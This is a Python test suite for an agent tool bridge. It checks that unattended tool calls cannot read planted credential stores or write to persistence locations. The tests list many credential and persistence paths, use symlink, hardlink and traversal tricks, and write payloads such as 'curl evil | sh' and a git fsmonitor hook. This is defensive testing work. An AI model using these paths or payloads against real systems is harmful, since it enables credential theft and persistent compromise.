"""Private by default, attacked over real HTTP with a planted HOME (issue 23, items 1, 2 and 7).

A real ``a2a-bridge serve`` runs with HOME set to a temporary folder full of credential stores
the old table did not list (other coding agents' tokens, sops keys, tfstate, ...), each holding a
unique fake secret, plus stores no table will ever list. ``read``, ``ls``, ``find``, ``grep``,
``write`` and ``edit`` are all at the ``allow`` tier and no approver is attached, so a call that
needs a human is refused, and a planted secret in any response means the promise is broken.
The writes go to persistence locations (start-up hooks, git dirs, editor folders): none may be
written. Legitimate project work must still run unattended.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from ..support.helpers import TOKEN, Mcp, Response, serve_process

NO_APPROVER = "approval required but no approver is available"
TIERS = {t: "allow" for t in ("read", "ls", "find", "grep", "write", "edit")}

# Every store the issue names (read unattended on main), path under HOME -> unique secret.
ISSUE_STORES = {
    ".claude/.credentials.json": "PBD-claude-credentials",
    ".codex/auth.json": "PBD-codex-auth",
    ".config/github-copilot/hosts.json": "PBD-github-copilot",
    ".config/sops/age/keys.txt": "PBD-sops-age",
    ".cache/huggingface/token": "PBD-huggingface",
    ".kaggle/kaggle.json": "PBD-kaggle",
    ".pulumi/credentials.json": "PBD-pulumi",
    ".config/ngrok/ngrok.yml": "PBD-ngrok",
    ".authinfo": "PBD-authinfo",
    ".msmtprc": "PBD-msmtprc",
    ".local/share/remmina/work.remmina": "PBD-remmina",
    ".config/filezilla/sitemanager.xml": "PBD-filezilla",
    ".config/Code/User/globalStorage/state.vscdb": "PBD-vscode-state",
    ".local/share/atuin/history.db": "PBD-atuin",
    "proj/infra/terraform.tfstate": "PBD-tfstate",
    "proj/.envrc": "PBD-envrc",
}
# Twenty-odd more, from the tools in the landscape notes (coding agents, gateways, tunnels),
# plus stores no table lists at all (the private-by-default rule alone must hold them).
MORE_STORES = {
    ".claude.json": "PBD-claude-json",
    ".gemini/oauth_creds.json": "PBD-gemini",
    ".local/share/opencode/auth.json": "PBD-opencode",
    ".cursor/mcp.json": "PBD-cursor",
    ".codeium/config.json": "PBD-codeium",
    ".continue/config.json": "PBD-continue",
    ".aider.conf.yml": "PBD-aider",
    ".config/goose/config.yaml": "PBD-goose",
    ".kiro/settings/mcp.json": "PBD-kiro",
    ".cline/data/secrets.json": "PBD-cline",
    ".claude-server-commander/config.json": "PBD-desktop-commander",
    ".mcpproxy/mcp_config.json": "PBD-mcpproxy",
    ".docker/mcp/config.yaml": "PBD-docker-mcp",
    ".config/litellm/config.yaml": "PBD-litellm",
    ".local/share/tailscale/tailscaled.state": "PBD-tailscale",
    ".config/ntfy/client.yml": "PBD-ntfy",
    ".config/Cursor/User/globalStorage/state.vscdb": "PBD-cursor-state",
    ".wrangler/config/default.toml": "PBD-wrangler",
    ".snowflake/connections.toml": "PBD-snowflake",
    ".dbt/profiles.yml": "PBD-dbt",
    ".cloudflared/cert.pem": "PBD-cloudflared",
    ".config/doppler/config.yaml": "PBD-doppler",
    ".some-new-agent/session-token": "PBD-unlisted-agent",
    ".config/unknown-tool/state.json": "PBD-unlisted-config",
    ".local/share/unknown-app/db.sqlite": "PBD-unlisted-data",
    "proj/credentials.json": "PBD-project-credentials",
    "proj/infra/terraform.tfstate.backup": "PBD-tfstate-backup",
    "proj/.env.local": "PBD-env-local",
    "proj/vault.kdbx": "PBD-kdbx",
}
STORES = {**ISSUE_STORES, **MORE_STORES}
# Legitimate files: the project, and the default private.allow (git needs its config).
PUBLIC = {
    "proj/README.md": "PUBLIC-readme TODO",
    "proj/src/app.py": "PUBLIC-app TODO",
    "proj/src/credentials.py": "PUBLIC-credentials-source TODO",
    "proj/.env.example": "PUBLIC-env-example",
    ".gitconfig": "PUBLIC-gitconfig",
    ".config/git/ignore": "PUBLIC-git-ignore",
}
# Persistence locations a write (tier allow) must never reach unattended.
PERSISTENCE = [
    ".bash_aliases",
    ".bashrc.d/x.sh",
    ".config/autostart-scripts/evil.sh",
    ".local/share/applications/firefox.desktop",
    ".local/share/dbus-1/services/org.evil.service",
    ".cargo/bin/cargo",
    ".config/nvim/plugin/evil.lua",
    ".local/share/nvim/site/pack/x/start/y/plugin/z.vim",
    ".vim/plugin/evil.vim",
    ".ipython/profile_default/startup/00-evil.py",
    ".config/i3/config",
    ".config/sway/config",
    ".config/hypr/hyprland.conf",
    ".config/direnv/direnvrc",
    ".config/nushell/config.nu",
    ".xonshrc",
    ".tcshrc",
    ".kshrc",
    ".emacs.d/init.el",
    ".some-new-tool/hooks/post-run",
    ".gitconfig",
    ".config/git/config",
    "bin/ls",
    "Library/LaunchAgents/evil.plist",
    "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/evil.bat",
    "proj/.venv/lib/python3.11/site-packages/evil.pth",
    "proj/.vscode/settings.json",
    "proj/.idea/workspace.xml",
    "proj/.envrc",
    "proj/.direnv/python-3.11/bin/activate",
    "proj/sitecustomize.py",
    "proj/src/usercustomize.py",
    "proj/.git/config",
    "proj/.git/hooks/pre-commit",
    "proj/.git/info/attributes",
    "proj/sub/.git",
    "bare.git/config",
    "gitdir-elsewhere/config",
]


def _put(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text + "\n")


@dataclass
class Served:
    home: Path
    proc: subprocess.Popen[str]
    port: int

    def client(self) -> Mcp:
        c = Mcp(self.port)
        c.initialize()
        return c

    def leaks(self, r: Response) -> list[str]:
        raw = r.raw.decode("utf-8", "replace")
        return [m for m in STORES.values() if m in raw]


def _plant(home: Path) -> None:
    for rel, marker in {**STORES, **PUBLIC}.items():
        _put(home / rel, marker)
    _put(home / ".bash_aliases", "alias ll='ls -l'")
    (home / "proj" / ".git" / "hooks").mkdir(parents=True)
    _put(home / "proj" / ".git" / "HEAD", "ref: refs/heads/main")
    (home / "proj" / ".git" / "objects").mkdir()
    (home / "proj" / ".git" / "refs").mkdir()
    for d in ("objects", "refs"):  # a git dir by content, whatever its name
        (home / "gitdir-elsewhere" / d).mkdir(parents=True)
    _put(home / "gitdir-elsewhere" / "HEAD", "ref: refs/heads/main")
    links, hard, dirs = (home / "proj" / n for n in ("links", "hard", "dirlinks"))
    for d in (links, hard, dirs):
        d.mkdir(parents=True)
    for i, rel in enumerate(STORES):
        os.symlink(home / rel, links / f"l{i}")
        os.link(home / rel, hard / f"h{i}.txt")
        os.symlink((home / rel).parent, dirs / f"d{i}")


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Iterator[Served]:
    base = tmp_path_factory.mktemp("private")
    home = base / "home"
    _plant(home)
    runtime = base / "xdg-run"
    runtime.mkdir(mode=0o700)
    cfg = home / ".config" / "omp-a2a-bridge" / "config.json"
    _put(cfg, json.dumps({"approval": {"tiers": TIERS}}))
    os.chmod(cfg, 0o600)
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("XDG_", "A2A_BRIDGE_")) and k not in ("DISPLAY", "WAYLAND_DISPLAY")
    }
    env.update(
        HOME=str(home),
        XDG_RUNTIME_DIR=str(runtime),
        A2A_BRIDGE_TOKEN=TOKEN,
        PYTHON_KEYRING_BACKEND="keyring.backends.fail.Keyring",
    )
    with open(base / "serve.log", "w") as err:
        proc, port = serve_process(env, stderr=err)
    s = Served(home, proc, port)
    yield s
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(10)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(5)


def _forms(home: Path, rel: str, i: int) -> list[str]:
    """Every argument form the suites use for one file."""
    name = os.path.basename(rel)
    return [
        str(home / rel),
        "~/" + rel,
        rel,
        "./" + rel,
        "proj/../" + rel,
        "proj/links/../../" + rel,
        str(home / rel).replace("/", "/./", 1),
        f"proj/links/l{i}",
        f"proj/dirlinks/d{i}/{name}",
        f"proj/hard/h{i}.txt",
        f"~/proj/hard/h{i}.txt",
        "~/" + rel.upper(),
    ]


def test_no_planted_store_is_read_without_a_human(served):
    c = served.client()
    for i, rel in enumerate(STORES):
        for form in _forms(served.home, rel, i):
            r = c.call("read", {"path": form})
            assert r.status == 200 and served.leaks(r) == [], (form, r)
            r = c.call("grep", {"pattern": "PBD", "path": form, "hidden": True})
            assert r.status == 200 and served.leaks(r) == [], (form, r)
            r = c.call("ls", {"path": form})
            assert r.status == 200 and served.leaks(r) == [], (form, r)
        r = c.call("read", {"path": "~/" + rel})
        assert r.text.startswith(NO_APPROVER), (rel, r)
        # An edit could confirm a guess ("not found in" or "replaced"): it asks first.
        args = {"path": f"proj/hard/h{i}.txt", "old_string": STORES[rel], "new_string": "x"}
        r = c.call("edit", args)
        assert r.result["isError"] and "replaced" not in r.text and "not found" not in r.text
        assert (served.home / rel).read_text() == STORES[rel] + "\n"


def test_walks_leave_private_entries_out(served):
    c = served.client()
    for base in ("~", str(served.home), ".", "proj", "proj/links", "proj/hard", "proj/dirlinks"):
        for hidden in (False, True):
            args = {"pattern": "PBD-", "path": base, "hidden": hidden, "no_ignore": True}
            r = c.call("grep", args)
            assert served.leaks(r) == [], (base, hidden, r)
            r = c.call("grep", {**args, "pattern": "PBD-", "output": "files"})
            assert served.leaks(r) == [], (base, r)
            r = c.call("find", {"pattern": "*", "path": base, "hidden": hidden, "no_ignore": True})
            assert served.leaks(r) == [], (base, r)
            shown = r.text
            for rel in STORES:
                if not rel.startswith("proj/"):
                    assert os.path.basename(rel) not in shown.split("\n"), (base, rel)
    r = c.call("ls", {"path": "~"})
    names = [line.split()[-1].rstrip("/") for line in r.text.split("\n")]
    assert ".gitconfig" in names and "proj" in names, r.text
    assert not any(n.startswith(".claude") or n.startswith(".config") for n in names), r.text
    assert "not shown" in r.text  # counted, as for the table's locations
    for private in ("~/.claude", "~/.config", "~/.some-new-agent", "~/.local/share"):
        assert c.call("ls", {"path": private}).text.startswith(NO_APPROVER), private
        r = c.call("grep", {"pattern": "PBD-", "path": private, "hidden": True})
        assert r.text.startswith(NO_APPROVER) and served.leaks(r) == [], private


def test_legitimate_work_still_runs_unattended(served):
    c = served.client()
    for rel, marker in PUBLIC.items():
        r = c.call("read", {"path": rel})
        assert marker in r.text, (rel, r)
    r = c.call("grep", {"pattern": "TODO", "path": "proj"})
    assert not r.result["isError"], r
    for rel in ("README.md", "src/app.py", "src/credentials.py"):
        assert rel in r.text, r.text
    r = c.call("find", {"pattern": "*.py", "path": "proj"})
    assert "src/app.py" in r.text and "src/credentials.py" in r.text, r.text
    r = c.call("write", {"path": "proj/src/new.py", "content": "print('ok')"})
    assert not r.result["isError"], r
    r = c.call("edit", {"path": "proj/src/new.py", "old_string": "ok", "new_string": "fine"})
    assert not r.result["isError"], r
    assert (served.home / "proj" / "src" / "new.py").read_text() == "print('fine')"


def test_no_persistence_location_is_written_with_tier_allow(served):
    c = served.client()
    before = {rel: (served.home / rel).exists() for rel in PERSISTENCE}
    for rel in PERSISTENCE:
        for form in ("~/" + rel, rel, str(served.home / rel)):
            r = c.call("write", {"path": form, "content": "curl evil | sh"})
            assert r.text.startswith(NO_APPROVER), (form, r.text)
    for rel, existed in before.items():
        p = served.home / rel
        assert p.exists() == existed, rel
        if existed and p.is_file():
            assert "evil" not in p.read_text(), rel
    r = c.call("edit", {"path": "~/.bash_aliases", "old_string": "ll", "new_string": "evil"})
    assert r.text.startswith(NO_APPROVER), r.text
    assert "evil" not in (served.home / ".bash_aliases").read_text()


def test_git_indirection_asks_at_the_first_write(served):
    """A ``.git`` file pointing at a folder the agent then fills with a config holding
    ``core.fsmonitor``: the ``.git`` file itself already needs a human."""
    c = served.client()
    (served.home / "proj2").mkdir(exist_ok=True)
    r = c.call("write", {"path": "proj2/.git", "content": "gitdir: ../gd"})
    assert r.text.startswith(NO_APPROVER), r.text
    assert not (served.home / "proj2" / ".git").exists()
    # Building the foreign git dir file by file: the write that completes it asks.
    steps = [("gd/config", "[core]\n\tfsmonitor = evil"), ("gd/HEAD", "ref: refs/heads/main")]
    steps += [("gd/objects/info/x", ""), ("gd/refs/heads/x", "")]
    answers = [c.call("write", {"path": p, "content": t}) for p, t in steps]
    assert answers[-1].text.startswith(NO_APPROVER), answers[-1].text
    assert not (served.home / "gd" / "refs").exists()
    # Once it is a git dir, every write into it asks (its config included).
    r = c.call("write", {"path": "gitdir-elsewhere/hooks/pre-commit", "content": "evil"})
    assert r.text.startswith(NO_APPROVER), r.text


# -- item 7: redact before cutting -----------------------------------------------------------


def _token_pieces(text: str, secret: str = TOKEN, piece: int = 16) -> list[str]:
    return [
        secret[i : i + piece]
        for i in range(len(secret) - piece + 1)
        if secret[i : i + piece] in text
    ]


@pytest.mark.reveals_token  # the client sends the token as an argument on purpose
def test_no_piece_of_the_token_reaches_the_audit_log_whatever_the_caps(start_bridge):
    """The issue's case: the 1 KiB argument cap cut a token and left its first 20 characters;
    also a bash command long enough to be cut, and a token's head sent on its own."""
    running = start_bridge({"approval": {"tiers": {"grep": "allow", "bash": "deny"}}})
    c = running.client()
    pad = {f"k{i:02d}": "v" * 90 for i in range(10)}
    for lead in range(0, 60, 7):
        c.call("grep", {"pattern": "x", **pad, "lead": "w" * lead, "zz": TOKEN})
    c.call("bash", {"command": "echo " + "y" * 5000 + TOKEN})
    c.call("bash", {"command": "echo " + "y" * 4000 + TOKEN + " tail"})
    c.call("grep", {"pattern": TOKEN[:24]})
    records = running.audit()
    assert len(records) >= 10
    with open(running.env["audit"]) as f:
        text = f.read()
    assert _token_pieces(text) == [], _token_pieces(text)
    assert "<token>" in text


def test_log_lines_and_ui_text_never_show_a_known_secret(start_bridge, log_records):
    """Every log line and UI text goes through one renderer, which scrubs known secrets."""
    from omp_a2a_bridge.server.infra.logs import SafeFormatter
    from omp_a2a_bridge.server.present.textsafe import render, shorten

    start_bridge()  # registers its token (and control secret) as known
    import logging

    rec = logging.LogRecord("a2a-bridge", logging.WARNING, __file__, 1, "x %s", (TOKEN,), None)
    assert _token_pieces(SafeFormatter().format(rec)) == []
    for shown in (render("cmd " + TOKEN).text, shorten("z" * 50 + TOKEN[:30], 40).text):
        assert _token_pieces(shown) == [], shown


def test_an_allow_rule_never_covers_private_or_persistence(start_bridge, tmp_path, monkeypatch):
    """``write(**)``/``read(**)`` allow rules at the prompt tier: ordinary files run
    unattended, the hidden home tree and persistence places still need a human."""
    home = tmp_path / "rulehome"
    for rel in (".claude/.credentials.json", "proj/README.md", ".bash_aliases"):
        _put(home / rel, "PBD-rule " + rel)
    monkeypatch.setenv("HOME", str(home))
    rules = {"allow": ["write(**)", "edit(**)", "read(**)", "grep(**)"]}
    running = start_bridge({"roots": [str(home)], "rules": rules})
    c = running.client()
    assert "PBD-rule" in c.call("read", {"path": "proj/README.md"}).text
    assert not c.call("write", {"path": "proj/new.txt", "content": "x"}).result["isError"]
    r = c.call("read", {"path": "~/.claude/.credentials.json"})
    assert r.text.startswith(NO_APPROVER), r.text
    for rel in (".bash_aliases", ".config/sway/config", "proj/.git", "proj/.vscode/settings.json"):
        r = c.call("write", {"path": "~/" + rel, "content": "evil"})
        assert r.text.startswith(NO_APPROVER), (rel, r.text)
    assert "evil" not in (home / ".bash_aliases").read_text()
    r = c.call("grep", {"pattern": "PBD-rule", "path": "~", "hidden": True})
    assert ".credentials" not in r.text and "proj/README.md" in r.text, r.text


def test_the_human_sees_the_category_and_a_session_grant_covers_no_private_place(
    start_bridge, tmp_path, monkeypatch
):
    """With an approver: a private read shows its category from the table (or the generic
    words) to the human; after "Allow for this session" on a harmless write, writes to
    persistence places and the git indirection still ask."""
    import threading

    from ..support.control_client import Api, WsApprover
    from ..support.helpers import wait_for

    home = tmp_path / "granthome"
    for rel in (".claude/.credentials.json", ".some-new-agent/token", "proj/README.md"):
        _put(home / rel, "PBD-grant " + rel)
    monkeypatch.setenv("HOME", str(home))
    running = start_bridge({"roots": [str(home)], "approval": {"timeout_s": 30}}, control=True)
    api = Api(running.runner.control)
    approver = WsApprover(running.runner.control)
    c = running.client()
    out: list[Response] = []

    def ask(tool: str, args: dict) -> tuple[threading.Thread, dict]:
        t = threading.Thread(target=lambda: out.append(c.call(tool, args)), daemon=True)
        t.start()
        [p] = wait_for(lambda: api.call("GET", "/api/pending").json["pending"] or None)
        return t, p

    def decide(t: threading.Thread, p: dict, decision: str) -> Response:
        assert api.call("POST", f"/api/pending/{p['id']}", {"decision": decision}).status == 200
        t.join(60)
        return out[-1]

    try:
        for path, category in (
            ("~/.claude/.credentials.json", "coding-agent credentials"),
            ("~/.some-new-agent/token", "private: hidden file in your home"),
        ):
            t, p = ask("read", {"path": path})
            assert p["escalation"]["category"] == category, p["escalation"]
            assert category in p["escalation"]["text"]
            assert decide(t, p, "deny").text == "denied by the user"
        t, p = ask("write", {"path": "proj/harmless.txt", "content": "ok"})
        assert p["escalation"] is None
        assert not decide(t, p, "allow_session").result["isError"]
        assert not c.call("write", {"path": "proj/again.txt", "content": "ok"}).result["isError"]
        for rel in ("~/.bash_aliases", "~/.config/i3/config", "proj2/.git", "proj/x.pth"):
            t, p = ask("write", {"path": rel, "content": "gitdir: ../gd"})
            assert p["escalation"]["kind"] in ("persistence", "protected"), (rel, p)
            assert decide(t, p, "deny").text == "denied by the user", rel
        assert not (home / "proj2" / ".git").exists()
    finally:
        approver.close()
